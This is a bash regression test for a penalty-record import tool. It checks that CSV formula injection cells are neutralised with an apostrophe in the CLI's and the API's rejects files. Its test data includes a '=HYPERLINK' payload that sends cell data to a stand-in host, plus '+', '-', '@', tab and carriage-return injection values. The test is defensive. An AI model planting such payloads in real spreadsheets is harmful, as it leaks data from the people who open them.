#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# CSV (formula) injection: a batch whose rejected cells begin with '=', '+', '-', '@', a tab or a
# carriage return. In the rejects CSV, both the file `xinyong import` leaves beside the batch and the
# API's text/csv answer that the console downloads, each such cell starts with an apostrophe inside
# its quotes, so a spreadsheet shows it as text; no cell of either file begins with one of those
# characters; the two files are the same bytes. The JSON answers (the CLI's --json and the API's)
# carry every value as it was sent.
. "$(dirname "$0")/lib.sh.inc"
. "$(dirname "$0")/server.sh.inc"
D=$XY_TEST_DATA
DEPT=11230500001755309F

run_xy 0 init
run_xy 0 dept add "$DEPT" 武汉市市场监督管理局
run_xy 0 key create --role department --dept "$DEPT" --name 市场监管局
KD=$(printf '%s\n' "$OUT" | tail -n 1)

# row N VALUE COLUMN: a line of penalty-good.csv's layout, document number N, whose COLUMN-th cell
# (1-based) is VALUE, quoted with its quotes doubled.
HEAD=$(head -n 1 "$D/penalty-good.csv")
row() {
    local cells=(武汉华鑫科技有限公司 法人及非法人组织 91420684MA4927PJ7B "" 张伟 "" "" "注罚〔2024〕$1号" 无照经营
        事实 依据 罚款 罚款 0.2 2024-03-05 2024-03-20 武汉市市场监督管理局 "$DEPT" 武汉市市场监督管理局 "$DEPT" 2 1)
    cells[$3 - 1]="\"${2//\"/\"\"}\""
    (
        IFS=,
        printf '%s\r\n' "${cells[*]}"
    )
}
HYPER='=HYPERLINK("http://x.example/?d="&A1,"click")'
TAB=$'\t=1+1'
CR=$'\r=1+1'
{
    printf '%s\r\n' "$HEAD"
    row 1 "$HYPER" 2     # 行政相对人类别: not in its code list
    row 2 '+1+1' 12      # 处罚类别: not in its code list
    row 3 '-2+3' 14      # 罚款金额: not an amount
    row 4 '@SUM(1,2)' 15 # 处罚决定日期: not a date
    row 5 "$TAB" 2
    row 6 "$CR" 12
    row 7 '-5' 14        # a negative amount: prefixed as well
    row 8 '2024-03-05' 2 # a value with '-' inside: left alone
} >sheet.csv

# ---- the CLI: FILE.rejects.csv and --json ----
run_xy 1 import --json --class penalty --dept "$DEPT" sheet.csv
expect_eq "every row rejected" 8 "$(json_get "$OUT" rejected)"
for want in '"row":1,"field":"CF_XDR_LB","value":"=HYPERLINK(\"http://x.example/?d=\"&A1,\"click\")"' \
    '"row":2,"field":"CF_CFLB","value":"+1+1"' \
    '"row":3,"field":"CF_NR_FK","value":"-2+3"' \
    '"row":4,"field":"CF_JDRQ","value":"@SUM(1,2)"' \
    '"row":5,"field":"CF_XDR_LB","value":"\t=1+1"' \
    '"row":6,"field":"CF_CFLB","value":"\r=1+1"' \
    '"row":7,"field":"CF_NR_FK","value":"-5"' \
    '"row":8,"field":"CF_XDR_LB","value":"2024-03-05"'; do
    expect_contains "the JSON keeps the value as sent" "$want" "$OUT"
done
[ -f sheet.csv.rejects.csv ] || fail "no rejects file"

# check_sheet WHAT FILE: the neutralised cells, and no cell that starts a formula.
check_sheet() {
    local what=$1 f=$2 text
    text=$(cat "$f")
    expect_eq "$what: BOM" "efbbbf" "$(head -c 3 "$f" | od -An -tx1 | tr -d ' \n')"
    for want in '1,"CF_XDR_LB","行政相对人类别","'"'"'=HYPERLINK(""http://x.example/?d=""&A1,""click"")","bad_code",' \
        '2,"CF_CFLB","处罚类别","'"'"'+1+1","bad_code",' \
        '3,"CF_NR_FK","罚款金额（万元）","'"'"'-2+3","bad_amount",' \
        '4,"CF_JDRQ","处罚决定日期","'"'"'@SUM(1,2)","bad_date",' \
        "5,\"CF_XDR_LB\",\"行政相对人类别\",\"'$TAB\"," \
        "6,\"CF_CFLB\",\"处罚类别\",\"'$CR\"," \
        '7,"CF_NR_FK","罚款金额（万元）","'"'"'-5","bad_amount",' \
        '8,"CF_XDR_LB","行政相对人类别","2024-03-05","bad_code",'; do
        expect_contains "$what: the cell is prefixed" "$want" "$text"
    done
    # Every cell is quoted, so a cell starts right after a line start or a comma and its quote (the
    # bare row number excepted): none may start with a formula character.
    if LC_ALL=C grep -n -P '(^|,)"[=+\-@\t\r]' "$f" >"$WORK/leads"; then
        fail "$what: cells that start a formula: $(cat "$WORK/leads")"
    fi
    if LC_ALL=C grep -n -P '^[=+\-@\t]' "$f" >"$WORK/leads"; then
        fail "$what: a bare cell that starts a formula: $(cat "$WORK/leads")"
    fi
}
check_sheet "the CLI's rejects file" sheet.csv.rejects.csv

# ---- the API: the console's download (text/csv) and the JSON answer ----
start_server sheets
curl -s -o "$WORK/submit.json" -w '%{http_code}' -X POST -H "Authorization: Bearer $KD" \
    -H 'Content-Type: text/csv' --data-binary @sheet.csv "$URL/api/v1/batches?class=penalty" >"$WORK/code"
expect_eq "batch submitted" 201 "$(cat "$WORK/code")"
B=$(json_get "$(cat "$WORK/submit.json")" batch)
[ -n "$B" ] || fail "no batch id in: $(cat "$WORK/submit.json")"
CODE=$(curl -s -o api.rejects.csv -w '%{http_code}' -H "Authorization: Bearer $KD" -H 'Accept: text/csv' \
    "$URL/api/v1/batches/$B/rejects")
expect_eq "rejects as CSV" 200 "$CODE"
check_sheet "the API's rejects CSV" api.rejects.csv
cmp -s api.rejects.csv sheet.csv.rejects.csv || fail "the API's rejects CSV and the CLI's rejects file differ"
CODE=$(curl -s -o api.rejects.json -w '%{http_code}' -H "Authorization: Bearer $KD" "$URL/api/v1/batches/$B/rejects")
expect_eq "rejects as JSON" 200 "$CODE"
JSON=$(cat api.rejects.json)
for want in '"value":"=HYPERLINK(\"http://x.example/?d=\"&A1,\"click\")"' '"value":"+1+1"' '"value":"-2+3"' \
    '"value":"@SUM(1,2)"' '"value":"\t=1+1"' '"value":"\r=1+1"' '"value":"-5"'; do
    expect_contains "the API's JSON keeps the value as sent" "$want" "$JSON"
done
case "$JSON" in *"\"'"*) fail "an apostrophe reached the JSON: $JSON" ;; esac
stop_server "$SPID" sheets
echo "csv_formula: ok"
